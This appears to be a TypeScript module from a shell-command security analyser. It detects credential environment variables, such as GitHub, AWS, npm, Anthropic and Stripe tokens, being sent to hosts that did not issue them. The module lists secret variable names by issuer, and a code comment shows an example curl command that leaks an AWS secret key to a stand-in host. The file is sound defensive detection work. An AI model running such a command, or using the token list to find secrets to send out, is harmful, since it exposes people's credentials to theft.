import type { Word } from '../../shell/command.js';
import type { Running } from '../command/apply.js';
import { textOf } from '../../shell/command.js';
import { emitResource } from '../command/apply.js';
import { readArguments } from '../command/arguments.js';
import { rowFor } from '../programs/index.js';

/** Who gives out the tokens that variables of these names hold, by a word of the addresses that they are for. */
const ISSUERS: readonly (readonly [variable: RegExp, hosts: RegExp])[] = [
  [/^(?:GITHUB|GH)_(?:\w+_)?(?:TOKEN|PAT)$/, /git|copilot/],
  [/^(?:GITLAB|GL|CI_JOB)_(?:\w+_)?TOKEN$/, /git/],
  [/^AWS_(?:SECRET_ACCESS_KEY|SESSION_TOKEN)$/, /aws|amazon/],
  [/^(?:NPM|NODE_AUTH|YARN_NPM_AUTH)_TOKEN$/, /npm|yarn|registry|pkg|package|artifact|nexus|jfrog/],
  [/^(?:ANTHROPIC|CLAUDE)_API_KEY$/, /anthropic|claude/],
  [/^STRIPE_(?:\w+_)?(?:SECRET|KEY)(?:_KEY)?$/, /stripe/],
  [/^(?:PYPI|TWINE)_(?:\w+_)?(?:TOKEN|PASSWORD)$/, /pypi|python|artifact|nexus|jfrog/],
  [/^DATABASE_URL$|^(?:PG|POSTGRES_|MYSQL_|DB_)PASSWORD$/, /^$/],
];

const VARIABLE = /\$\{?([A-Z][A-Z0-9_]*)/g;

/** The name of a machine, where it has a dot; a variable may stand for it. */
const HOST = /^(?:[a-z][a-z\d+.-]*:\/\/)?(?:[^/?#@\s]*@)?([\w-]+(?:\.[\w-]+)+)\.?(?::\d+)?(?=[/?#]|$)/i;

/** This machine, and those beside it. */
const NEAR = /^(?:127(?:\.\d+){3}|10(?:\.\d+){3}|192\.168(?:\.\d+){2})$/;

/** `curl "https://x.test/?k=$AWS_SECRET_ACCESS_KEY"`: a token that somebody else gave out goes to a host, in its address or as data. In a header it may be for a service of the same issuer. */
export function foreignTokens(program: string, args: readonly Word[], running: Running): void {
  const addresses = addressesOf(program, args);
  const all = addresses.flatMap(hostsOf);
  if (all.length === 0) return;
  args.forEach((word, index) => {
    if (word.values[0].certainty === 'certain' || !word.written.includes('$') || /^(?:-H|--header|-u|--user)$/.test(textOf(args[index - 1]))) return;
    // What is no address goes to all of them.
    const hosts = addresses.includes(word) ? hostsOf(word) : all;
    for (const [, name = ''] of word.written.matchAll(VARIABLE)) {
      if (ISSUERS.some(([variable, own]) => variable.test(name) && hosts.some((host) => !own.test(host)))) emitResource('send', 'credential', name, running);
    }
  });
}

/** The operands, and values of options that are addresses: not the names of files. */
function addressesOf(program: string, args: readonly Word[]): readonly Word[] {
  const row = rowFor(program);
  if (row === undefined) return [];
  const given = readArguments(program, row, args, rowFor);
  return [...given.operands, ...given.valued.flatMap(({ option, word }) => (given.options[option] === 'url' ? [word] : []))];
}

function hostsOf(address: Word): readonly string[] {
  return address.values.flatMap(({ text }) => {
    const [, host = ''] = HOST.exec(text) ?? [];
    return host === '' || NEAR.test(host) ? [] : [host.toLowerCase()];
  });
}
